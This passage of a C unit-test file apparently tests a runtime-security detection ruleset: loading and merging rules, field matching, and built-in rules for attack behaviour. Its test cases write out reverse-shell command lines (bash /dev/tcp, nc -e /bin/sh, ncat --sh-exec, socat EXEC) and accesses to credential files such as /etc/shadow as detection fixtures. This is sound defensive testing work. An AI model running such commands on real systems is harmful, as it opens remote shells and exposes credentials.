	CHECK(add_doc(&rs, "{'rules': [{'id': 'mine-1', 'title': 'again', 'severity': 'low', "
		      "'action': 'deny', 'event': 'open', 'when': []}]}", &e) == 0 &&
	      rs.n == n && strcmp(rs.rules[find_rule(&rs, "mine-1")].title, "again") == 0,
	      "merge: a second file may replace a rule the first one added");
	ruleset_free(&rs);
}

/* --file-events=off: rules left without an event are turned off; the
 * others keep their remaining events. */
static void test_drop_events(void)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	size_t n;
	int k;

	if (ruleset_load_builtin(&rs, &e) < 0 ||
	    add_doc(&rs, "{'rules': [{'id': 'both', " REQ ", 'event': ['open', 'exec'], "
		    "'when': [" COND("file.path", "prefix", "'/srv/'") "]}]}", &e) < 0) {
		CHECK(0, "drop: the rules load");
		unit_diag("%s", e.msg);
		ruleset_free(&rs);
		return;
	}
	n = ruleset_drop_events(&rs, FILE_EVENTS);
	CHECK(n == 5, "drop: file events off turns off the 5 built-in rules on files "
	      "only (%zu)", n);
	CHECK(!(ruleset_events(&rs) & FILE_EVENTS) &&
	      (ruleset_events(&rs) & (1U << ACT_EXEC)) && rs.n_sensitive == 0 &&
	      !ruleset_is_sensitive(&rs, "/etc/shadow"),
	      "drop: no file event is left, nor a sensitive path");
	k = find_rule(&rs, "both");
	CHECK(k >= 0 && rs.rules[k].enabled && rs.rules[k].events == (1U << ACT_EXEC),
	      "drop: a rule on open and exec keeps exec");
	k = find_rule(&rs, "write-below-etc");
	CHECK(k >= 0 && !rs.rules[k].enabled, "drop: write-below-etc is off");
	k = find_rule(&rs, "dropped-binary-exec");
	CHECK(k >= 0 && rs.rules[k].enabled,
	      "drop: dropped-binary-exec (an exec rule) stays on");
	{
		struct activity a = { .event = ACT_EXEC, .name = "x", .path = "/srv/x",
				      .file_path = "/srv/x", .actor_name = "sh" };
		size_t out[32];

		n = ruleset_match(&rs, &a, out, 32);
		CHECK(n == 1 && strcmp(rs.rules[out[0]].id, "both") == 0,
		      "drop: the remaining exec event still matches file.path");
	}
	CHECK(ruleset_drop_events(&rs, FILE_EVENTS) == 0, "drop: dropping twice turns "
	      "nothing more off");
	ruleset_free(&rs);
}

static void test_add_file(void)
{
	char dir[] = "/tmp/test_rules.XXXXXX", path[64], missing[64];
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	FILE *f;

	if (!mkdtemp(dir)) {
		CHECK(0, "file: a scratch directory");
		return;
	}
	snprintf(path, sizeof path, "%s/rules.json", dir);
	snprintf(missing, sizeof missing, "%s/none.json", dir);

	f = fopen(path, "w");
	if (f) {
		fputs("{\"rules\": [\n  {\"id\": \"f\", \"title\": \"t\", \"severity\": \"low\",\n"
		      "   \"action\": \"alert\", \"event\": \"exec\", \"when\": [\n"
		      "     {\"field\": \"process.nam\", \"op\": \"eq\",\n"
		      "      \"value\": \"x\"}]}]}\n", f);
		fclose(f);
	}
	CHECK(ruleset_add_file(&rs, path, &e) < 0 && e.kind == FC_ERR_INPUT &&
	      strstr(e.msg, path) && strstr(e.msg, "line 4") && strstr(e.msg, "rule \"f\"") &&
	      strstr(e.msg, "process.nam"), "file: an error names the file's path, the line, "
	      "the rule and the field");
	unit_diag("%s", e.msg);

	f = fopen(path, "w");
	if (f) {
		fputs("{\"rules\": [{\"id\": \"f\", \"title\": \"t\", \"severity\": \"low\", "
		      "\"action\": \"alert\", \"event\": \"exec\", \"when\": []}]}\n", f);
		fclose(f);
	}
	CHECK(ruleset_add_file(&rs, path, &e) == 0 && rs.n == 1, "file: a good file loads");

	memset(&e, 0, sizeof e);
	CHECK(ruleset_add_file(&rs, missing, &e) < 0 && e.kind == FC_ERR_INPUT &&
	      strstr(e.msg, missing) && strstr(e.msg, "No such file") && rs.n == 1,
	      "file: a missing file is FC_ERR_INPUT naming the path and the cause");
	unit_diag("%s", e.msg);
	memset(&e, 0, sizeof e);
	CHECK(ruleset_add_file(&rs, dir, &e) < 0 && e.kind == FC_ERR_INPUT &&
	      strstr(e.msg, dir) && strstr(e.msg, "directory") && rs.n == 1,
	      "file: a directory is FC_ERR_INPUT naming the path and the cause");
	unit_diag("%s", e.msg);

	f = fopen(path, "w");
	if (f)
		fclose(f);
	memset(&e, 0, sizeof e);
	CHECK(ruleset_add_file(&rs, path, &e) < 0 && e.kind == FC_ERR_INPUT &&
	      strstr(e.msg, "empty") && rs.n == 1, "file: an empty file is refused");

	ruleset_free(&rs);
	unlink(path);
	rmdir(dir);
}

/* ------------------------------------------------------------------ */
/* b. Matching */

/* A one-rule document (rule "x") over the given events and conditions. */
#define ONE(ev, when) "{'rules': [{'id': 'x', " REQ ", 'event': " ev ", 'when': [" \
	when "]}]}"
#define CONDX(f, op, v, extra) "{'field': '" f "', 'op': '" op "', 'value': " v \
	", " extra "}"

/* The process doing it, for events other than exec. */
#define BY(nm, p) .pid = 100, .tid = 100, .uid = 1000, .name = nm, .path = p, \
	.cmd_line = nm, .actor_name = nm, .actor_path = p
/* An exec of p, by the program act; the new argv is the case's argv. */
#define EXEC(nm, p, act) .event = ACT_EXEC, .pid = 100, .tid = 100, .uid = 1000, \
	.name = nm, .path = p, .file_path = p, .actor_name = act, \
	.actor_path = "/usr/bin/" act
/* The values of a multi-valued field: a program's names, the actor's, the
 * files an exec runs. */
#define LIST(f, ...) .f = (const char *const[]){ __VA_ARGS__ }, \
	.n_##f = sizeof((const char *const[]){ __VA_ARGS__ }) / sizeof(const char *)
#define INET(addr, p) .family = AF_INET, .ip = addr, .port = p, .has_addr = 1

struct match_case {
	const char *why;
	int builtin;             /* start from the built-in set */
	const char *doc;         /* then add this document */
	struct activity a;
	const char *argv[8];     /* exec: the new argv (cmd_line joins it) */
	const char *want;        /* matching ids, in rule order */
};

static const struct match_case match_cases[] = {
	/* Ops on a string field. The exec: /usr/bin/Python3 -c "import os". */
#define PY EXEC("Python3", "/usr/bin/Python3", "bash")
#define PYARGV { "Python3", "-c", "import os" }
	{ "eq", 0, ONE("'exec'", COND("process.name", "eq", "'Python3'")), { PY }, PYARGV, "x" },
	{ "eq is case-sensitive", 0, ONE("'exec'", COND("process.name", "eq", "'python3'")),
	  { PY }, PYARGV, "" },
	{ "eq nocase", 0, ONE("'exec'", CONDX("process.name", "eq", "'PYTHON3'", "'nocase': true")),
	  { PY }, PYARGV, "x" },
	{ "eq with a list", 0, ONE("'exec'", COND("process.name", "eq", "['ruby', 'Python3']")),
	  { PY }, PYARGV, "x" },
	{ "in", 0, ONE("'exec'", COND("process.name", "in", "['ruby', 'Python3']")),
	  { PY }, PYARGV, "x" },
	{ "in, no element equal", 0, ONE("'exec'", COND("process.name", "in", "['ruby', 'perl']")),
	  { PY }, PYARGV, "" },
	{ "in nocase", 0, ONE("'exec'", CONDX("process.name", "in", "['RUBY', 'python3']",
	  "'nocase': true")), { PY }, PYARGV, "x" },
	{ "prefix", 0, ONE("'exec'", COND("process.path", "prefix", "'/usr/'")),
	  { PY }, PYARGV, "x" },
	{ "prefix is case-sensitive", 0, ONE("'exec'", COND("process.path", "prefix", "'/USR/'")),
	  { PY }, PYARGV, "" },
	{ "prefix nocase", 0, ONE("'exec'", CONDX("process.path", "prefix", "'/USR/BIN/py'",
	  "'nocase': true")), { PY }, PYARGV, "x" },
	{ "prefix longer than the string", 0, ONE("'exec'", COND("process.name", "prefix",
	  "'Python3.11'")), { PY }, PYARGV, "" },
	{ "suffix", 0, ONE("'exec'", COND("process.path", "suffix", "'/Python3'")),
	  { PY }, PYARGV, "x" },
	{ "suffix nocase", 0, ONE("'exec'", CONDX("process.path", "suffix", "'THON3'",
	  "'nocase': true")), { PY }, PYARGV, "x" },
	{ "suffix longer than the string", 0, ONE("'exec'", COND("process.name", "suffix",
	  "'/usr/bin/Python3'")), { PY }, PYARGV, "" },
	{ "contains on cmd_line", 0, ONE("'exec'", COND("process.cmd_line", "contains",
	  "'-c imp'")), { PY }, PYARGV, "x" },
	{ "contains nocase", 0, ONE("'exec'", CONDX("process.cmd_line", "contains", "'IMPORT OS'",
	  "'nocase': true")), { PY }, PYARGV, "x" },
	{ "contains, absent", 0, ONE("'exec'", COND("process.cmd_line", "contains", "'socket'")),
	  { PY }, PYARGV, "" },
	{ "glob", 0, ONE("'exec'", COND("process.path", "glob", "'/usr/*/Python?'")),
	  { PY }, PYARGV, "x" },
	{ "glob: * stops at /", 0, ONE("'exec'", COND("process.path", "glob", "'/usr/*'")),
	  { PY }, PYARGV, "" },
	{ "glob with a bracket", 0, ONE("'exec'", COND("process.path", "glob",
	  "'/usr/bin/[A-Z]ython[0-9]'")), { PY }, PYARGV, "x" },
	{ "glob nocase", 0, ONE("'exec'", CONDX("process.path", "glob", "'/USR/BIN/*'",
	  "'nocase': true")), { PY }, PYARGV, "x" },
	{ "not: eq that fails holds", 0, ONE("'exec'", CONDX("process.name", "eq", "'ruby'",
	  "'not': true")), { PY }, PYARGV, "x" },
	{ "not: eq that holds fails", 0, ONE("'exec'", CONDX("process.name", "eq", "'Python3'",
	  "'not': true")), { PY }, PYARGV, "" },
	{ "not in a list", 0, ONE("'exec'", CONDX("process.name", "in", "['ruby', 'Python3']",
	  "'not': true")), { PY }, PYARGV, "" },
	{ "not with nocase", 0, ONE("'exec'", CONDX("process.name", "eq", "'python3'",
	  "'not': true, 'nocase': true")), { PY }, PYARGV, "" },
	{ "every condition must hold", 0, ONE("'exec'", COND("process.name", "eq", "'Python3'")
	  ", " COND("actor.name", "eq", "'sh'")), { PY }, PYARGV, "" },
	{ "actor fields", 0, ONE("'exec'", COND("actor.name", "eq", "'bash'") ", "
	  COND("actor.path", "eq", "'/usr/bin/bash'")), { PY }, PYARGV, "x" },
	{ "exec: file.path is the program", 0, ONE("'exec'", COND("file.path", "eq",
	  "'/usr/bin/Python3'")), { PY }, PYARGV, "x" },
	{ "an empty when matches every event of its kind", 0, ONE("'exec'", ""),
	  { PY }, PYARGV, "x" },
	{ "an empty when matches no other kind", 0, ONE("'open'", ""), { PY }, PYARGV, "" },
	{ "a rule turned off matches nothing", 0, "{'rules': [{'id': 'x', " REQ ", "
	  "'event': 'exec', 'enabled': false, 'when': []}]}", { PY }, PYARGV, "" },

	/* process.args: every argument after argv[0]. */
	{ "args: eq an argument", 0, ONE("'exec'", COND("process.args", "eq", "'-c'")),
	  { PY }, PYARGV, "x" },
	{ "args: argv[0] is not an argument", 0, ONE("'exec'", COND("process.args", "eq",
	  "'Python3'")), { PY }, PYARGV, "" },
	{ "args: the last argument", 0, ONE("'exec'", COND("process.args", "contains", "'os'")),
	  { PY }, PYARGV, "x" },
	{ "args: a list of values", 0, ONE("'exec'", COND("process.args", "in",
	  "['-x', 'import os']")), { PY }, PYARGV, "x" },
	{ "args: prefix", 0, ONE("'exec'", COND("process.args", "prefix", "'imp'")),
	  { PY }, PYARGV, "x" },
	{ "args: glob over one argument", 0, ONE("'exec'", COND("process.args", "glob",
	  "'import *'")), { PY }, PYARGV, "x" },
	{ "args: not holds when no argument matches", 0, ONE("'exec'", CONDX("process.args",
	  "eq", "'-m'", "'not': true")), { PY }, PYARGV, "x" },
	{ "args: not fails when one argument matches", 0, ONE("'exec'", CONDX("process.args",
	  "eq", "'-c'", "'not': true")), { PY }, PYARGV, "" },
	{ "args: argv with argv[0] only", 0, ONE("'exec'", COND("process.args", "prefix", "''")),
	  { PY }, { "Python3" }, "" },
	{ "args: no argv at all", 0, ONE("'exec'", COND("process.args", "prefix", "''")),
	  { PY, .cmd_line = "" }, { NULL }, "" },
	{ "args: no argv, negated", 0, ONE("'exec'", CONDX("process.args", "prefix", "''",
	  "'not': true")), { PY, .cmd_line = "" }, { NULL }, "x" },
	{ "args: an empty argument", 0, ONE("'exec'", COND("process.args", "eq", "''")),
	  { PY }, { "Python3", "", "x" }, "x" },

	/* Fields an event lacks, or does not know. */
	{ "a field the event lacks does not hold", 0, ONE("['exec', 'open']",
	  COND("file.is_trunc", "eq", "false")), { PY }, PYARGV, "" },
	{ "a field the event lacks, negated, holds", 0, ONE("['exec', 'open']",
	  CONDX("file.is_trunc", "eq", "true", "'not': true")), { PY }, PYARGV, "x" },
	{ "the same rule on the event that has the field", 0, ONE("['exec', 'open']",
	  COND("file.is_trunc", "eq", "false")),
	  { BY("cat", "/bin/cat"), .event = ACT_OPEN, .file_path = "/x" }, { NULL }, "x" },
	{ "dst.ip of a unix socket is unknown", 0, ONE("'connect'", COND("dst.ip", "prefix", "''")),
	  { BY("app", "/app"), .event = ACT_CONNECT, .family = AF_UNIX, .has_addr = 1,
	    .unix_path = "/run/x.sock" }, { NULL }, "" },
	{ "dst.ip of a unix socket, negated", 0, ONE("'connect'", CONDX("dst.ip", "eq",
	  "'1.2.3.4'", "'not': true")), { BY("app", "/app"), .event = ACT_CONNECT,
	  .family = AF_UNIX, .has_addr = 1, .unix_path = "/run/x.sock" }, { NULL }, "x" },
	{ "dst.port of a unix socket is unknown", 0, ONE("'connect'", COND("dst.port", "eq", "0")),
	  { BY("app", "/app"), .event = ACT_CONNECT, .family = AF_UNIX, .has_addr = 1,
	    .unix_path = "/run/x.sock" }, { NULL }, "" },
	{ "file.mode of an open without O_CREAT is unknown", 0, ONE("'open'",
	  COND("file.mode", "eq", "0")), { BY("cat", "/bin/cat"), .event = ACT_OPEN,
	  .file_path = "/x" }, { NULL }, "" },

	/* Other types and fields. */
	{ "bool eq true", 0, ONE("'exec'", COND("process.is_main", "eq", "true")),
	  { PY, .is_main = 1 }, PYARGV, "x" },
	{ "bool eq false on a true field", 0, ONE("'exec'", COND("process.is_main", "eq", "false")),
	  { PY, .is_main = 1 }, PYARGV, "" },
	{ "bool is_entrypoint", 0, ONE("'exec'", COND("process.is_entrypoint", "eq", "true")),
	  { PY, .is_entrypoint = 1 }, PYARGV, "x" },
	{ "number eq", 0, ONE("'exec'", COND("process.pid", "eq", "100")), { PY }, PYARGV, "x" },
	{ "number in, absent", 0, ONE("'exec'", COND("process.pid", "in", "[1, 2, 3]")),
	  { PY }, PYARGV, "" },
	{ "process.uid", 0, ONE("'exec'", COND("process.uid", "eq", "1000")), { PY }, PYARGV, "x" },
	{ "any_bits: setuid", 0, ONE("'chmod'", COND("file.mode", "any_bits", "2048")),
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/x", .is_write = 1,
	    .has_mode = 1, .mode = 04755 }, { NULL }, "x" },
	{ "any_bits: no common bit", 0, ONE("'chmod'", COND("file.mode", "any_bits", "1024")),
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/x", .is_write = 1,
	    .has_mode = 1, .mode = 04755 }, { NULL }, "" },
	{ "any_bits, negated", 0, ONE("'chmod'", CONDX("file.mode", "any_bits", "3072",
	  "'not': true")), { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/x",
	  .is_write = 1, .has_mode = 1, .mode = 0755 }, { NULL }, "x" },
	{ "any_bits on 64-bit flags", 0, ONE("'unshare'", COND("ns.flags", "any_bits",
	  "4294967296")), { BY("u", "/u"), .event = ACT_UNSHARE, .ns_flags = 1ULL << 32 },
	  { NULL }, "x" },
	{ "a rule on two events, the second one", 0, ONE("['open', 'unlink']",
	  COND("file.path", "eq", "'/x'")), { BY("rm", "/bin/rm"), .event = ACT_UNLINK,
	  .file_path = "/x", .is_write = 1 }, { NULL }, "x" },
	{ "a rule on two events, a third one", 0, ONE("['open', 'unlink']",
	  COND("file.path", "eq", "'/x'")), { BY("mv", "/bin/mv"), .event = ACT_RENAME,
	  .file_path = "/x", .old_path = "/y", .is_write = 1 }, { NULL }, "" },
	{ "file.old_path", 0, ONE("'rename'", COND("file.old_path", "prefix", "'/tmp/'")),
	  { BY("mv", "/bin/mv"), .event = ACT_RENAME, .file_path = "/usr/bin/x",
	    .old_path = "/tmp/x", .is_write = 1 }, { NULL }, "x" },
	{ "non-exec: process.* is the caller", 0, ONE("'open'", COND("process.path", "eq",
	  "'/bin/cat'") ", " COND("actor.name", "eq", "'cat'")), { BY("cat", "/bin/cat"),
	  .event = ACT_OPEN, .file_path = "/x" }, { NULL }, "x" },
	{ "net.family inet6 and dst.ip", 0, ONE("'connect'", COND("net.family", "eq", "'inet6'")
	  ", " COND("dst.ip", "eq", "'2001:db8::1'") ", " COND("dst.port", "eq", "443")),
	  { BY("curl", "/usr/bin/curl"), .event = ACT_CONNECT, .family = AF_INET6,
	    .ip = "2001:db8::1", .port = 443, .has_addr = 1 }, { NULL }, "x" },
	{ "src.ip and src.port on bind", 0, ONE("['bind', 'listen']", COND("src.port", "eq",
	  "8080") ", " COND("src.ip", "eq", "'0.0.0.0'")), { BY("srv", "/srv"), .event = ACT_BIND,
	  INET("0.0.0.0", 8080) }, { NULL }, "x" },
	{ "src.port on listen", 0, ONE("['bind', 'listen']", COND("src.port", "eq", "8080")),
	  { BY("srv", "/srv"), .event = ACT_LISTEN, INET("0.0.0.0", 8080) }, { NULL }, "x" },
	{ "unix.path, abstract", 0, ONE("'connect'", COND("unix.path", "glob", "'@*'") ", "
	  COND("net.family", "eq", "'unix'")), { BY("app", "/app"), .event = ACT_CONNECT,
	  .family = AF_UNIX, .has_addr = 1, .unix_path = "@dbus" }, { NULL }, "x" },
	{ "net.family other", 0, ONE("'connect'", COND("net.family", "eq", "'other'")),
	  { BY("app", "/app"), .event = ACT_CONNECT, .family = AF_NETLINK }, { NULL }, "x" },
	{ "ptrace.request and target.pid", 0, ONE("'ptrace'", COND("ptrace.request", "eq",
	  "'seize'") ", " COND("target.pid", "eq", "42")), { BY("gdb", "/usr/bin/gdb"),
	  .event = ACT_PTRACE, .ptrace_request = "seize", .target_pid = 42 }, { NULL }, "x" },
	{ "fd.new and fd.type", 0, ONE("'dup'", COND("fd.new", "eq", "2") ", "
	  COND("fd.type", "eq", "'pipe'")), { BY("sh", "/bin/sh"), .event = ACT_DUP,
	  .fd_new = 2, .fd_type = "pipe" }, { NULL }, "x" },
	{ "matches come in rule order", 0, "{'rules': ["
	  "{'id': 'b', " REQ ", 'event': 'exec', 'when': []},"
	  "{'id': 'no', " REQ ", 'event': 'open', 'when': []},"
	  "{'id': 'a', " REQ ", 'event': ['open', 'exec'], 'when': []}]}",
	  { PY }, PYARGV, "b a" },

	/* The built-in rules: a trigger and a near miss each, as the tracer
	 * would fill them for a real attack. */
	{ "shell-by-non-shell: python3 runs sh -c", 1, NULL,
	  { EXEC("sh", "/bin/sh", "python3") }, { "sh", "-c", "id" }, "shell-by-non-shell" },
	{ "shell-by-non-shell: bash runs sh", 1, NULL,
	  { EXEC("sh", "/bin/sh", "bash") }, { "sh", "-c", "id" }, "" },
	{ "shell-by-non-shell: the container's own command is sh", 1, NULL,
	  { EXEC("sh", "/bin/sh", "falcon-sensor"), .is_entrypoint = 1, .is_main = 1 },
	  { "sh", "-c", "exec nginx" }, "" },
	{ "shell-by-non-shell: node runs bash through /usr/bin/env", 1, NULL,
	  { EXEC("env", "/usr/bin/env", "node") }, { "env", "bash" }, "" },
	/* A program's names (identity.h): any one matches; a "not" holds
	 * only when none does. The actor through trampolines. */
	{ "names: nc under an innocent name, known by its inode", 1, NULL,
	  { EXEC("innocent", "/usr/local/bin/innocent", "sh"), LIST(names, "innocent", "nc") },
	  { "innocent", "-e", "/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
	{ "names: busybox's applet is a name", 1, NULL,
	  { EXEC("busybox", "/bin/busybox", "sh"), LIST(names, "busybox", "nc") },
	  { "busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444" },
	  "netcat-exec netcat-exec-multicall network-tool" },
	{ "names: a not holds only when no name matches", 0,
	  ONE("'exec'", CONDX("process.name", "in", "['dash']", "'not': true")),
	  { EXEC("sh", "/bin/sh", "sh"), LIST(names, "sh", "dash") }, { "sh" }, "" },
	{ "names: a not holds when none matches", 0,
	  ONE("'exec'", CONDX("process.name", "in", "['bash']", "'not': true")),
	  { EXEC("sh", "/bin/sh", "sh"), LIST(names, "sh", "dash") }, { "sh" }, "x" },
	{ "shell-by-non-shell: python3 runs sh through env (env is transparent)", 1, NULL,
	  { EXEC("sh", "/bin/sh", "env"), LIST(actor_names, "python3") },
	  { "sh", "-c", "id" }, "shell-by-non-shell" },
	{ "shell-by-non-shell: bash runs sh through nohup", 1, NULL,
	  { EXEC("sh", "/bin/sh", "nohup"), LIST(actor_names, "bash") },
	  { "sh", "-c", "id" }, "" },
	{ "shell-by-non-shell: a hard link of dash called foo is a shell", 1, NULL,
	  { EXEC("sh", "/bin/sh", "foo"), LIST(actor_names, "foo", "dash") },
	  { "sh", "-c", "id" }, "" },
	{ "shell-by-non-shell: sh run by the entrypoint's trampoline", 1, NULL,
	  { EXEC("sh", "/bin/sh", "nohup"), .is_entrypoint = 1 }, { "sh", "-c", "id" }, "" },
	{ "exec-from-tmp: a library preloaded from /dev/shm", 1, NULL,
	  { EXEC("true", "/usr/bin/true", "sh"), LIST(files, "/dev/shm/x.so") },
	  { "true" }, "exec-from-tmp" },
	{ "exec-from-tmp: a library preloaded from /usr/lib", 1, NULL,
	  { EXEC("true", "/usr/bin/true", "sh"), LIST(files, "/usr/lib/x.so") },
	  { "true" }, "" },
	{ "netcat-exec: nc -e /bin/sh", 1, NULL, { EXEC("nc", "/usr/bin/nc", "sh") },
	  { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
	{ "netcat-exec: ncat --sh-exec", 1, NULL, { EXEC("ncat", "/usr/bin/ncat", "sh") },
	  { "ncat", "10.0.0.1", "4444", "--sh-exec", "bash -i" }, "netcat-exec network-tool" },
	{ "netcat-exec: nc -e/bin/sh (joined)", 1, NULL, { EXEC("nc", "/usr/bin/nc", "sh") },
	  { "nc", "-e/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
	{ "netcat-exec: ncat --exec=/bin/sh", 1, NULL, { EXEC("ncat", "/usr/bin/ncat", "sh") },
	  { "ncat", "--exec=/bin/sh", "10.0.0.1", "4444" }, "netcat-exec network-tool" },
	{ "netcat-exec-combined: nc -ve /bin/sh", 1, NULL, { EXEC("nc", "/usr/bin/nc", "sh") },
	  { "nc", "-ve", "/bin/sh", "10.0.0.1", "4444" },
	  "netcat-exec-combined network-tool" },
	{ "netcat-exec-combined: nc -lvp 4444 is not", 1, NULL,
	  { EXEC("nc", "/usr/bin/nc", "sh") }, { "nc", "-lvp", "4444" }, "network-tool" },
	{ "netcat-exec-multicall: busybox nc -e /bin/sh", 1, NULL,
	  { EXEC("busybox", "/bin/busybox", "sh") },
	  { "busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444" }, "netcat-exec-multicall" },
	{ "netcat-exec-multicall: busybox nc -l is not", 1, NULL,
	  { EXEC("busybox", "/bin/busybox", "sh") }, { "busybox", "nc", "-l", "-p", "80" }, "" },
	{ "netcat-exec: nc -l is only a network tool", 1, NULL,
	  { EXEC("nc", "/usr/bin/nc", "sh") }, { "nc", "-l", "-p", "8080" }, "network-tool" },
	{ "netcat-exec: -e as argv[0] is not an option", 1, NULL,
	  { EXEC("nc", "/usr/bin/nc", "sh") }, { "-e", "10.0.0.1" }, "network-tool" },
	{ "socat-exec: EXEC: address", 1, NULL, { EXEC("socat", "/usr/bin/socat", "sh") },
	  { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr" },
	  "socat-exec network-tool" },
	{ "socat-exec: system: in lower case", 1, NULL, { EXEC("socat", "/usr/bin/socat", "sh") },
	  { "socat", "tcp-listen:4444", "system:sh" }, "socat-exec network-tool" },
	{ "socat-exec: a plain relay", 1, NULL, { EXEC("socat", "/usr/bin/socat", "sh") },
	  { "socat", "TCP-LISTEN:8080,fork", "TCP:backend:80" }, "network-tool" },
	{ "reverse-shell-socket-stdio: socket onto 0", 1, NULL,
	  { BY("bash", "/bin/bash"), .event = ACT_DUP, .fd_new = 0, .fd_type = "socket" },
	  { NULL }, "reverse-shell-socket-stdio" },
	{ "reverse-shell-socket-stdio: socket onto 1", 1, NULL,
	  { BY("python3", "/usr/bin/python3"), .event = ACT_DUP, .fd_new = 1,
	    .fd_type = "socket" }, { NULL }, "reverse-shell-socket-stdio" },
	{ "reverse-shell-socket-stdio: a pipe onto 1", 1, NULL,
	  { BY("bash", "/bin/bash"), .event = ACT_DUP, .fd_new = 1, .fd_type = "pipe" },
	  { NULL }, "" },
	{ "reverse-shell-socket-stdio: a socket onto 2", 1, NULL,
	  { BY("bash", "/bin/bash"), .event = ACT_DUP, .fd_new = 2, .fd_type = "socket" },
	  { NULL }, "" },
	{ "reverse-shell-dev-tcp: bash -c with /dev/tcp", 1, NULL,
	  { EXEC("bash", "/bin/bash", "sh") },
	  { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }, "reverse-shell-dev-tcp" },
	{ "reverse-shell-dev-tcp: /dev/tcpdump.log", 1, NULL,
	  { EXEC("cat", "/bin/cat", "sh") }, { "cat", "/dev/tcpdump.log" }, "" },
	{ "sensitive-file-read: /etc/shadow", 1, NULL,
	  { BY("python3", "/usr/bin/python3"), .event = ACT_OPEN, .file_path = "/etc/shadow",
	    .existed = 1 }, { NULL }, "sensitive-file-read" },
	{ "sensitive-file-read: a file under /etc/pam.d", 1, NULL,
	  { BY("cat", "/bin/cat"), .event = ACT_OPEN, .file_path = "/etc/pam.d/sshd",
	    .existed = 1 }, { NULL }, "sensitive-file-read" },
	{ "sensitive-file-read: /etc/passwd", 1, NULL,
	  { BY("cat", "/bin/cat"), .event = ACT_OPEN, .file_path = "/etc/passwd",
	    .existed = 1 }, { NULL }, "" },
	{ "sensitive-file-read: /etc/shadow written is a write, not a read", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/etc/shadow", .is_write = 1,
	    .existed = 1 }, { NULL }, "write-below-etc" },
	{ "write-below-etc: open /etc/passwd for writing", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/etc/passwd", .is_write = 1,
	    .existed = 1 }, { NULL }, "write-below-etc" },
	{ "write-below-etc: rename into /etc/cron.d", 1, NULL,
	  { BY("mv", "/bin/mv"), .event = ACT_RENAME, .file_path = "/etc/cron.d/x",
	    .old_path = "/tmp/x", .is_write = 1 }, { NULL }, "write-below-etc" },
	{ "write-below-etc: unlink /etc/hosts", 1, NULL,
	  { BY("rm", "/bin/rm"), .event = ACT_UNLINK, .file_path = "/etc/hosts",
	    .is_write = 1 }, { NULL }, "write-below-etc" },
	{ "write-below-etc: /app/etc/x", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/app/etc/x", .is_write = 1 },
	  { NULL }, "" },
	{ "write-below-etc: chmod is not a write rule's event", 1, NULL,
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/etc/x",
	    .is_write = 1, .has_mode = 1, .mode = 0755 }, { NULL }, "" },
	{ "write-below-binary-dir: open /usr/bin/ls for writing", 1, NULL,
	  { BY("curl", "/usr/bin/curl"), .event = ACT_OPEN, .file_path = "/usr/bin/ls",
	    .is_write = 1, .is_trunc = 1, .existed = 1 }, { NULL }, "write-below-binary-dir" },
	{ "write-below-binary-dir: rename into /usr/local/bin", 1, NULL,
	  { BY("mv", "/bin/mv"), .event = ACT_RENAME, .file_path = "/usr/local/bin/kubectl",
	    .old_path = "/tmp/kubectl", .is_write = 1 }, { NULL }, "write-below-binary-dir" },
	{ "write-below-binary-dir: read /usr/bin/ls", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/usr/bin/ls", .existed = 1 },
	  { NULL }, "" },
	{ "write-below-binary-dir: /usr/lib", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/usr/lib/x.so",
	    .is_write = 1 }, { NULL }, "" },
	{ "dropped-binary-exec: a program written since start", 1, NULL,
	  { EXEC("payload", "/app/payload", "sh"), .written_since_start = 1 },
	  { "./payload" }, "dropped-binary-exec" },
	{ "dropped-binary-exec: a program of the image", 1, NULL,
	  { EXEC("payload", "/app/payload", "sh") }, { "./payload" }, "" },
	{ "exec-from-tmp: /tmp/x", 1, NULL, { EXEC("x", "/tmp/x", "sh") }, { "/tmp/x" },
	  "exec-from-tmp" },
	{ "exec-from-tmp: /dev/shm/x written first", 1, NULL,
	  { EXEC("x", "/dev/shm/x", "sh"), .written_since_start = 1 }, { "/dev/shm/x" },
	  "dropped-binary-exec exec-from-tmp" },
	{ "exec-from-tmp: the container's own command in /tmp", 1, NULL,
	  { EXEC("x", "/tmp/x", "falcon-sensor"), .is_entrypoint = 1, .is_main = 1 },
	  { "/tmp/x" }, "" },
	{ "exec-from-tmp: /tmpfoo/x", 1, NULL, { EXEC("x", "/tmpfoo/x", "sh") },
	  { "/tmpfoo/x" }, "" },
	{ "memfd-exec: fexecve of a memfd", 1, NULL,
	  { EXEC("memfd:x (deleted)", "/memfd:x (deleted)", "python3") }, { "x" },
	  "memfd-exec" },
	{ "memfd-exec: a file named memfd:x", 1, NULL,
	  { EXEC("memfd:x", "/app/memfd:x", "sh") }, { "x" }, "" },
	{ "ptrace-attach: PTRACE_ATTACH", 1, NULL, { BY("gdb", "/usr/bin/gdb"),
	  .event = ACT_PTRACE, .ptrace_request = "attach", .target_pid = 321 }, { NULL },
	  "ptrace-attach" },
	{ "ptrace-attach: PTRACE_SEIZE", 1, NULL, { BY("gdb", "/usr/bin/gdb"),
	  .event = ACT_PTRACE, .ptrace_request = "seize", .target_pid = 321 }, { NULL },
	  "ptrace-attach" },
	{ "ptrace-attach / ptrace-traceme: another request", 1, NULL, { BY("gdb", "/usr/bin/gdb"),
	  .event = ACT_PTRACE, .ptrace_request = "other", .target_pid = 321 }, { NULL }, "" },
